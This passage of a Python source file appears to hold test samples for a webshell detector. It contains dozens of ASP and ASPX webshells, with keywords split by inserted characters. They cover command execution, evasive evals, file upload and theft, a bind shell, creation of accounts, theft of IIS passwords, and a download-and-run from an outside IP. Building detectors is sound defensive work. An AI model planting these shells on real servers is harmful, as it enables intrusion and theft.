            "<%ev¬al(ev¬al(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116)"
            '+"(""none"")"))%>'
        ),
    ),
    "each of a form": (
        "a.asp",
        ("<%For Each k In Req¬uest.Form\nExec¬ute(Req¬uest.Form(k))\nNext%>"),
    ),
    "component by request": (
        "a.asp",
        ('<%Set o=Server.CreateObject(Req¬uest("p"))\no.Run Req¬uest("c")%>'),
    ),
    "account": (
        "a.asp",
        (
            '<%Set u=GetObject("WinNT://.").Create("user",req¬uest("u"))\nu.SetPassword re'
            'q¬uest("p")\nu.SetInfo%>'
        ),
    ),
    "start by reflection": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%typeof(System.Diagnostics.Proc¬ess).GetMethod("Sta'
            'rt",new[]{typeof(string),typeof(string)}).Inv¬oke(null,new object[]{Req¬uest'
            '["a"],Req¬uest["b"]});%>'
        ),
    ),
    "shell by its name": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%var t=Type.GetTypeFromProgID("WScript.Shell");var '
            'o=Activator.CreateInstance(t);t.InvokeMember("Run",System.Reflection.Binding'
            'Flags.InvokeMethod,null,o,new object[]{Req¬uest["none"]});%>'
        ),
    ),
    "bracketed evaluator": (
        "a.aspx",
        ('<%@ Page Language="JScript"%><%(ev¬al)(Req¬uest["none"],"unsafe")%>'),
    ),
    "all uploads": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%foreach(string f in Req¬uest.Files){HttpPostedFile'
            ' p=Req¬uest.Files[f];p.Save¬As(Server.MapPath("./"+p.FileName));}%>'
        ),
    ),
    "With block of VB.NET": (
        "a.aspx",
        (
            '<%@ Page Language="VB"%><script runat="server">\nSub Page_Load(s As Object, e'
            " As EventArgs)\nDim p As New System.Diagnostics.Proc¬ess\nWith p.StartInfo\n.Fi"
            'leName = "cmd"\n.Arguments = "/c " & Req¬uest("none")\nEnd With\np.Start()\nEnd '
            "Sub</script>"
        ),
    ),
    "carried program": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%byte[] b=Convert.FromBase64String("TVqQAAMAAAAEAAA'
            'A");System.Reflection.Assem¬bly.Load(b).EntryPoint.Invoke(null,null);%>'
        ),
    ),
    "dropped program": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%string p=System.IO.Path.GetTempPath()+"a.exe";byte[] b=new byte[]{'
            + ",".join(["0x4d"] * 900)
            + "};System.IO.File.WriteAll¬Bytes(p,b);System.Diagnostics.Proc¬ess.Start(p);%>"
        ),
    ),
    "script in a picture": (
        "a.asp",
        ('<script language="vbscript" runat="server" src="logo.jpg"></script>'),
    ),
    "delegate": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><script runat="server">Func<string,string,System.Di'
            "agnostics.Proc¬ess> f=System.Diagnostics.Proc¬ess.Start; void Page_Load(){f("
            '"cmd.exe","/c "+Req¬uest["x"]);}</script>'
        ),
    ),
    "import alias": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><%@ Import Namespace="X=System.Diagnostics.Proc¬ess'
            '" %><%X.Start("cmd.exe","/c "+Req¬uest["x"]);%>'
        ),
    ),
    "domain load": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><%AppDomain.CurrentDomain.Load(Convert.FromBase64St'
            'ring(Req¬uest["x"])).CreateInstance("A");%>'
        ),
    ),
    "own decryption": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><% System.Reflection.Assem¬bly a = System.Reflectio'
            'n.Assem¬bly.Load(Decrypt(Req¬uest["x"])); %><script runat=server>byte[] Decr'
            "ypt(string s){return Convert.FromBase64String(s);}</script>"
        ),
    ),
    "handler in VB.NET": (
        "a.ashx",
        (
            '<%@ WebHandler Language="VB" Class="H" %>\nImports System.Web\nPublic Class H '
            ": Implements IHttpHandler\nPublic Sub ProcessRequest(ByVal c As HttpContext) "
            "Implements IHttpHandler.ProcessRequest\nDim p As New System.Diagnostics.Proce"
            'ssStartInfo("cmd.exe", "/c " & c.Req¬uest("none"))\nSystem.Diagnostics.Proc¬e'
            "ss.Start(p)\nEnd Sub\nEnd Class"
        ),
    ),
    "hidden field": (
        "a.aspx",
        (
            '<%@ Page Language="C#" ValidateRequest="false" %><form runat=server><asp:Tex'
            'tBox runat=server ID="c"/><asp:Button runat=server OnClick="b"/></form><scri'
            "pt runat=server>void b(object s,EventArgs e){var st=new System.Diagnostics.P"
            "roc¬essStartInfo();st.FileName=fn.Value;st.Arguments=c.Text;System.Diagnosti"
            'cs.Proc¬ess.Start(st);}</script><input type=hidden id="fn" runat="server"/>'
        ),
    ),
    "two parts": ("a.asp", ('<% exec¬ute(Req¬uest("a")&Req¬uest("b"))%>')),
    "joined": ("a.asp", ('<%ev¬al"" & req¬uest("none")%>')),
    "written evaluation": ("a.asp", ('<%dim p\np = req¬uest("none")\nresponse.write(ev¬al(p))%>')),
    "UTF-7": ("a.asp", ('<%@codepage=65000%><%r+AGU-sponse.write 1:+AGU-val req¬uest("x")%>')),
    "dictionary": (
        "a.asp",
        (
            '<%Set d=Server.CreateObject("Scripting.Dictionary")\nd.add "a",req¬uest("x")\n'
            'exec¬ute d("a")%>'
        ),
    ),
    "own identity": (
        "a.asp",
        ('<%\nFunction d(s)\nd=s\nEnd Function\nexec¬ute d(req¬uest("x"))%>'),
    ),
    "answer of a shell": (
        "a.asp",
        ('<%=server.createobject("wscr¬ipt.shell").ex¬ec(req¬uest("c")).stdout.readall%>'),
    ),
    "own reader": ("a.asp", ('<%Function g(n):g=req¬uest(n):End Function:exec¬ute g("x")%>')),
    "evaluator by another name": (
        "a.aspx",
        (
            '<%@ Page Language="Jscript" validateRequest="false" %><%var keng = Req¬uest.'
            'Item["x"]; var M = ev¬al; M(keng,"un"+"safe")%>'
        ),
    ),
    "one statement": (
        "a.aspx",
        (
            '<%@ Page Language="C#" Inherits="System.Web.UI.Page"%><%Response.Write(new S'
            "ystem.IO.StreamReader(System.Diagnostics.Proc¬ess.Start(new System.Diagnosti"
            'cs.Proc¬essStartInfo("cmd","/c "+Req¬uest.QueryString["x"]){RedirectStandard'
            "Output=true,UseShellExecute=false}).StandardOutput.BaseStream).ReadToEnd());"
            "%>"
        ),
    ),
    "decoder of names": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><script runat=server>string Q(string x){return Syst'
            "em.Text.Encoding.UTF8.GetString(Convert.FromBase64String(x));}void Page_Load"
            '(object o,EventArgs e){var t=Type.GetType(Q("U3lzdGVtLkRpYWdub3N0aWNzLlByb2N'
            'lc3MsIFN5c3RlbQ=="));t.GetMethod(Q("U3RhcnQ="),new[]{typeof(string),typeof(s'
            'tring)}).Inv¬oke(null,new object[]{"cmd","/c "+Req¬uest["x"]});}</script>'
        ),
    ),
    "Razor upload": (
        "a.cshtml",
        (
            "@using System.IO\n@{ if(IsPost){ var f=Req¬uest.Files[0]; f.Save¬As(Server.Ma"
            'pPath("~/"+f.FileName)); } }\n<form method=post enctype="multipart/form-data"'
            "><input type=file name=f></form>"
        ),
    ),
    "in a binary": (
        "a.aspx",
        ('\x00\x01binary<%@ Page Language="JScript"%><%ev¬al(Req¬uest["x"],"unsafe")%>\x00\x02\x03')
        * 3,
    ),
}


# What larger shells are made of, and rarer shapes.
MORE: dict[str, tuple[str, str]] = {
    "lists and reads": (
        "a.asp",
        (
            '<% Set fs=Server.CreateObject("Scripting.FileSystemObject")\np=Request("d")\nI'
            'f p="" Then p="C:\\"\nSet f=fs.GetFolder(p)\nFor Each s In f.SubFolders\nRespons'
            'e.Write "<a href=\'?d=" & s.Path & "\'>" & s.Name & "</a>"\nNext\nIf Request("f"'
            ')<>"" Then Response.Write Server.HTMLEncode(fs.OpenTextFile(Request("f")).Re'
            "adAll)\n%>"
        ),
    ),
    "own upload reader": (
        "a.asp",
        (
            "<%\nSub BuildUploadRequest(RequestBin)\nPosBeg = 1\nPosEnd = InstrB(PosBeg,Requ"
            "estBin,getByteString(chr(13)))\nboundary = MidB(RequestBin,PosBeg,PosEnd-PosB"
            'eg)\nDim UploadControl\nSet UploadControl = CreateObject("Scripting.Dictionary'
            '")\nFileName = getString(MidB(RequestBin,PosBeg,PosEnd-PosBeg))\nUploadControl'
            '.Add "FileName", FileName\nValue = MidB(RequestBin,PosBeg,PosEnd-PosBeg)\nUplo'
            'adControl.Add "Value" , Value\nUploadRequest.Add name, UploadControl\nEnd Sub\n'
            'Function getString(StringBin)\ngetString =""\nFor intCount = 1 to LenB(StringB'
            "in)\ngetString = getString & chr(AscB(MidB(StringBin,intCount,1)))\nNext\nEnd F"
            'unction\nDim UploadRequest\nSet UploadRequest = CreateObject("Scripting.Dictio'
            'nary")\nbyteCount = Request.TotalBytes\nRequestBin = Request.BinaryRead(byteCo'
            'unt)\nBuildUploadRequest RequestBin\nfilepathname = UploadRequest.Item("blob")'
            '.Item("FileName")\nfilename = Right(filepathname,Len(filepathname)-InstrRev(f'
            'ilepathname,"\\"))\nvalue = UploadRequest.Item("blob").Item("Value")\nSet Scrip'
            'tObject = Server.CreateObject("Scripting.FileSystemObject")\nSet MyFile = Scr'
            "iptObject.CreateTextFile(Server.MapPath(filename))\nFor i = 1 to LenB(value)\n"
            "MyFile.Write chr(AscB(MidB(value,i,1)))\nNext\n%>"
        ),
    ),
    "uploads to the root": (
        "a.ashx",
        (
            '<%@ WebHandler Language="C#" Class="U" %>\nusing System.Web;\npublic class U :'
            " IHttpHandler { public void ProcessRequest(HttpContext c) { foreach (string "
            "k in c.Req¬uest.Files) { var f = c.Req¬uest.Files[k]; f.Save¬As(c.Server.Map"
            'Path("~/") + f.FileName); } } public bool IsReusable { get { return false; }'
            " } }"
        ),
    ),
    "fetched program": (
        "a.asp",
        (
            '<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.open "GET","http://198'
            '.51.100.4/a.exe",False\nx.send\nSet s = Server.CreateObject("ADODB.Stream")\ns.'
            'Type = 1\ns.Open\ns.Write x.responseBody\ns.SaveToFile "c:\\a.exe",2\nSet w = Ser'
            'ver.CreateObject("WScript.Shell")\nw.run "c:\\a.exe"\n%>'
        ),
    ),
    "reads any file": (
        "a.aspx",
        ('<%@ Page Language="C#"%><%=System.IO.File.ReadAllText(Req¬uest["f"])%>'),
    ),
    "upload control of VB.NET": (
        "a.aspx",
        (
            '<%@ Page Language="VB" %>\n<script runat="server">\nSub up(s As Object, e As E'
            'ventArgs)\nf1.PostedFile.Save¬As(Server.MapPath(".") & "\\" & System.IO.Path.G'
            'etFileName(f1.PostedFile.FileName))\nEnd Sub\n</script><form runat="server" en'
            'ctype="multipart/form-data"><input type="file" id="f1" runat="server"/><asp:'
            'Button runat="server" OnClick="up"/></form>'
        ),
    ),
    "upload class": (
        "a.asp",
        (
            "<%\nClass UpLoad\nDim Form,File\nPrivate Sub Class_Initialize\nSet Form=Server.C"
            'reateObject("Scripting.Dictionary")\nSet D1=CreateObject("ADODB.Stream")\nD1.T'
            "ype=1\nD1.Open\nD1.Write Request.BinaryRead(Request.TotalBytes)\nEnd Sub\nPublic"
            ' Function SaveAs(Path)\nSet d3=CreateObject("ADODB.Stream")\nd3.Type=1\nd3.Open'
            "\nD1.CopyTo d3,FileSize\nd3.SaveToFile Path,2\nEnd Function\nEnd Class\nSet u=new"
            ' UpLoad\nSet f=u.File("a")\nf.SaveAs u.Form("path")\n%>'
        ),
    ),
    "grid of files": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><script runat="server">\nprotected void g_RowCommand'
            '(object s, GridViewCommandEventArgs e) { if (e.CommandName == "d") System.IO'
            '.File.Delete(e.CommandArgument.ToString()); if (e.CommandName == "l") Bind(e'
            ".CommandArgument.ToString()); }\nvoid Bind(string p) { g.DataSource = new Sys"
            'tem.IO.DirectoryInfo(p).GetFiles(); g.DataBind(); }\n</script><form runat="se'
            'rver"><asp:GridView id="g" runat="server" OnRowCommand="g_RowCommand"/></for'
            "m>"
        ),
    ),
    "registry": (
        "a.asp",
        (
            '<%Set w=Server.CreateObject("WScript.Shell")\nIf Request("a")="r" Then Respon'
            'se.Write w.RegRead(Request("k"))\nIf Request("a")="w" Then w.RegWrite Request'
            '("k"),Request("v"),Request("t")%>'
        ),
    ),
    "nested initializers": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><% var c=Req¬uest["c"]; var p=new System.Diagnostics'
            ".Proc¬ess { StartInfo = new System.Diagnostics.Proc¬essStartInfo { FileName="
            '"cmd.exe", Arguments="/c "+c } }; p.Start(); %>'
        ),
    ),
    "object of the shell": (
        "a.asp",
        (
            '<object runat=server id=sh progid="wscript.shell"></object><%=sh.ex¬ec("cmd '
            '/c "&req¬uest("c")).stdout.readall%>'
        ),
    ),
    "shell joined with plus": (
        "a.asp",
        ('<%Set x=Server.CreateObject("Wscr"+"ipt.Sh"+"ell")\nx.Run Req¬uest("c")%>'),
    ),
    "session alone": ("a.asp", ('<%Exec¬ute(Sess¬ion("code"))%>')),
    "bind shell": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><% var l=new System.Net.Sockets.TcpListener(4444); l'
            ".Start(); var k=l.AcceptTcpClient(); var s=k.GetStream(); var p=new System.D"
            'iagnostics.Proc¬ess(); p.StartInfo.FileName="cmd.exe"; p.StartInfo.RedirectS'
            "tandardOutput=true; p.Start(); s.Write(new byte[3],0,3); s.Read(new byte[3],"
            "0,3); %>"
        ),
    ),
    "typed connection": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><script runat="server">void b(object s,EventArgs e){'
            ' var c=new System.Data.SqlClient.SqlConnection("server="+h.Text+";uid="+u.Te'
            'xt+";pwd="+p.Text); c.Open(); var a=new System.Data.SqlClient.SqlDataAdapter'
            '(q.Text,c); } </script><asp:TextBox id="h" runat="server"/><asp:TextBox id="'
            'u" runat="server"/><asp:TextBox id="p" runat="server"/><asp:TextBox id="q" r'
            'unat="server"/>'
        ),
    ),
    "folders of the shell": (
        "a.asp",
        (
            '<% @Language="VBScript" %><%\non error resume next\nSet sa = CreateObject("She'
            'll.Appl¬ication")\nSet f = sa.NameSpace(Request("p"))\nFor Each i In f.Items\nR'
            "esponse.Write i.Path\nNext\n%>"
        ),
    ),
    "bytes of the body": (
        "a.asp",
        (
            "<%\nFunction bytes2BSTR(vIn)\nFor i = 1 To LenB(vIn)\nt = AscB(MidB(vIn,i,1))\ns"
            " = s & Chr(t)\nNext\nbytes2BSTR = s\nEnd Function\na = bytes2BSTR(Request.Binary"
            "Read(Request.TotalBytes))\nExec¬ute a\n%>"
        ),
    ),
    "by way of the session": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><% Sess¬ion["c"]=Req¬uest["c"]; var v=Sess¬ion["c"].'
            'ToString(); System.Diagnostics.Proc¬ess.Start("cmd.exe","/c "+v); %>'
        ),
    ),
    "stream writer": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><%@ Import Namespace="System.IO"%><% if(Req¬uest["p"'
            ']!=null) using(var w=new StreamWriter(Req¬uest["p"],true)) w.Write(Req¬uest['
            '"t"]); %>'
        ),
    ),
    "bytes into a page": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><% var b=new byte[Req¬uest.ContentLength]; Req¬uest.'
            "InputStream.Read(b,0,b.Length); System.IO.File.WriteAll¬Bytes(Server.MapPath"
            '("img.aspx"),b); %>'
        ),
    ),
    "request file by name": (
        "a.aspx",
        ('<%@ Page Language="C#"%><% Req¬uest.Files[0].Save¬As(Req¬uest["n"]); %>'),
    ),
    "numbered item": ("a.asp", ('<% response.write "ok" : ex¬ecute request.item(1) %>')),
    "domain of programs": (
        "a.aspx",
        (
            '<%@ Page Language="C#"%><script runat=server> public void Page_Load() { var '
            'a = new AppDomainSetup(); var k = Req¬uest.Cookies["k"].Value; var m = new S'
            "ystem.Security.Cryptography.RijndaelManaged(); byte[] r = m.CreateDecryptor("
            "x,y).TransformFinalBlock(Convert.FromBase64String(k),0,3); object o = AppDom"
            'ain.CurrentDomain.Load(r).CreateInstance("X"); o.Equals(Page);} </script>'
        ),
    ),
    "contract of an interface": (
        "a.svc",
        (
            '<%@ ServiceHost Language="C#" Service="S" %>\nusing System.ServiceModel; usin'
            "g System.ServiceModel.Web;\n[ServiceContract] public interface I { [Operation"
            "Contract] string X(string c); }\npublic class S : I { public string X(string "
            'c) { var i = new System.Diagnostics.Proc¬essStartInfo("cmd.exe", "/c " + c);'
            " return System.Diagnostics.Proc¬ess.Start(i).StandardOutput.ReadToEnd(); } }"
        ),
    ),
    "service that keeps programs": (
        "a.asmx",
        (
            '<%@ WebService Language="C#" Class="S" %>\npublic class S : System.Web.Servic'
            "es.WebService { [System.Web.Services.WebMethod(EnableSession = true)] public"
            " void pass(string pass) { byte[] d = System.Convert.FromBase64String(System."
            "Web.HttpUtility.UrlDecode(pass)); d = new System.Security.Cryptography.Rijnd"
            "aelManaged().CreateDecryptor(k,k).TransformFinalBlock(d,0,d.Length); if (Con"
            'text.Sess¬ion["payload"] == null) { Context.Sess¬ion["payload"] = (System.Re'
            'flection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new S'
            "ystem.Type[] { typeof(byte[]) }).Inv¬oke(null, new object[] { d }); } } }"
        ),
    ),
    "grown text": (
        "a.asp",
        (
            '<%@ LANGUAGE="VBSCRIPT"%><%\na="5"\nb="exe"\nb=b&"cute"\nb=b&" req"&"uest(""x"")'
            '"\nExecuteGlobal b\n%>'
        ),
    ),
    "command interpreter of the environment": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><% Server.ScriptTimeout=600; string s=Req¬uest.Form'
            '["z"]; string o=Sys(s); Response.Write(o);%><script runat=server> string Sys'
            "(string c){ var p=new System.Diagnostics.Proc¬ess(); p.StartInfo=new System."
            'Diagnostics.Proc¬essStartInfo(Environment.GetEnvironmentVariable("ComSpec"),'
            '"/c "+c); p.Start(); return p.StandardOutput.ReadToEnd(); }</script>'
        ),
    ),
    "fetched beside": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><script runat="server">protected void Page_Load(obj'
            'ect sender, EventArgs e){ if(Req¬uest["u"]!=null){ var w=new System.Net.WebC'
            'lient(); w.DownloadFile(Req¬uest["u"], Server.MapPath(".")+"/"+Req¬uest["n"]'
            "); } }</script>"
        ),
    ),
    "decoded text for PowerShell": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation" %>\n<script runat="serve'
            'r">void b_Click(object s, EventArgs e){ PowerShell ps = PowerShell.Create(); ps.AddScr¬ipt(Encoding.'
            'UTF8.GetString(Convert.FromBase64String(t.Text))).AddCommand("out-string"); foreach (var o in ps.Inv'
            'oke()) r.Text += o; }</script><form runat="server"><asp:TextBox id="t" runat="server"/><asp:Label id'
            '="r" runat="server"/><asp:Button OnClick="b_Click" runat="server"/></form>'
        ),
    ),
    "list of pieces": (
        "a.asp",
        ('<%\na = Array("ex","ecu","te"," re","que","st(""zz"")")\nExecu¬te(Join(a,""))\n%>'),
    ),
    "evaluator under another name": (
        "a.asp",
        (
            '<%@ language="javascript"%><% var o = Request.Item("zz") + ""; var e = this["ev"+"al"]; e(o); %>'
        ),
    ),
    "page out of the network": (
        "a.asp",
        (
            '<% Set x=Server.CreateObject("MSXML2.ServerXMLHTTP"):x.open "GET","http://zz.invalid/a.txt",0:x.send'
            ':Set f=Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("help.asp"),T'
            "rue):f.Write x.responseText:f.Close %>"
        ),
    ),
    "page appended to": (
        "a.asp",
        (
            '<% Set f=Server.CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("conn.asp"),8'
            ',True):f.Write "<"&"%ev¬al request(""zz"")%"&">":f.Close %>'
        ),
    ),
    "handler of uploads": (
        "up.ashx",
        (
            '<%@ WebHandler Language="C#" Class="U" %>\nusing System.Web; public class U : IHttpHandler { public v'
            "oid ProcessRequest(HttpContext c) { c.Request.Files[0].Save¬As(c.Server.MapPath(c.Request.Files[0].F"
            "ileName)); } public bool IsReusable { get { return true; } } }"
        ),
    ),
    "fetched program that is started": (
        "f.aspx",
        (
            '<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(Request["u"], @"C:\\Windows\\Temp\\'
            'z.exe"); System.Diagnostics.Process.Sta¬rt(@"C:\\Windows\\Temp\\z.exe"); %>'
        ),
    ),
    "program at any path": (
        "x.aspx",
        (
            '<%@ Page Language="C#" %><% System.Reflection.Assem¬bly.LoadFrom(Request["p"]).CreateInstance(Reques'
            't["t"]); %>'
        ),
    ),
    "program in a picture": (
        "x.aspx",
        (
            '<%@ Page Language="C#" %><% var a = System.Reflection.Assem¬bly.LoadFile(Server.MapPath("x.png")); a'
            '.GetType("U").GetMethod("Run").Invoke(null, new object[]{ Request["zz"] }); %>'
        ),
    ),
    "nothing but a picture": (
        "x.asp",
        ('<!--#include file="logo.gif"-->'),
    ),
    "passwords of sites": (
        "i.aspx",
        (
            '<%@ Page Language="VB" %><script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n If Requ'
            'est("p") <> "zz" Then Exit Sub\n Dim m As New System.DirectoryServices.DirectoryEntry("IIS://localhos'
            't/W3SVC")\n For Each c In m.Children\n  Response.Write(c.Name & c.Properties("AnonymousUserName").Valu'
            'e & c.Properties("AnonymousUserPass").Value)\n Next\nEnd Sub</script>'
        ),
    ),
    "path of a file that is run": (
        "a.asp",
        (
            '<% Set f=Server.CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath(Request("f")))'
            ":Execu¬teGlobal f.ReadAll %>"
        ),
    ),
    "member of what is made": (
        "a.asp",
        ('<% CreateObject("WScript.Sh¬ell").R¬un "power¬shell -enc " & Request("zz"),0,True %>'),
    ),
    "account by the script host": (
        "a.asp",
        (
            '<% Set w=CreateObject("WScript.Sh¬ell"):w.R¬un "net user " & Request("u") & " " & Request("p"),0,True %>'
        ),
    ),
    "run by its name": (
        "a.aspx",
        (
            '<%@ Page Language="VB" %><% Dim o = CreateObject("WScript.Sh¬ell") : CallByName(o, "R"+"un", '
            'CallType.Method, "cmd /c " & Request("zz"), 0) %>'
        ),
    ),
    "reader of an opened file": (
        "a.aspx",
        (
            '<%@ Page Language="C#" %><% using(var fs = new System.IO.FileStream(Request["p"], System.IO.FileMode'
            ".Open)) using(var r = new System.IO.StreamReader(fs)) Response.Write(r.ReadToEnd()); %>"
        ),
    ),
}


def shapes() -> list[tuple[str, str, str]]:
    """All markers, assembled: (name, file name, text)."""
    found = [(f"asp: {name}", "a.asp", assembled(text)) for name, text in ASP.items()]
    found += [(f"aspx: {name}", "a.aspx", assembled(text)) for name, text in ASPX.items()]
    for file, group in OTHER.items():
        found += [(f"{file}: {name}", file, assembled(text)) for name, text in group.items()]
    found += [(f"evasion: {n}", file, assembled(text)) for n, (file, text) in EVASIONS.items()]
    found += [(f"more: {n}", file, assembled(text)) for n, (file, text) in MORE.items()]
    return found
